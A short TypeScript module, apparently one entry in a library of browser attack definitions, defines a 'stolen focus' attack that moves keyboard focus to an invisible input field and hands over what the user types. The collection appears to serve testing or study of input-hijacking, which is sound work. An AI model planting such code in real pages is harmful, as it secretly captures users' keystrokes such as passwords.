import type { Attack } from '../attack.js';

export const stolenFocus: Attack = {
  title: 'stolen focus',
  does: 'Takes the focus from the element to a field that nobody sees, so that the keys go there.',
  diverts: true,
  install: ({ take }) => {
    const hidden = document.createElement('input');
    hidden.style.opacity = '0';
    return () => {
      document.body.append(hidden);
      hidden.focus();
      take('hidden', hidden.value);
    };
  },
};
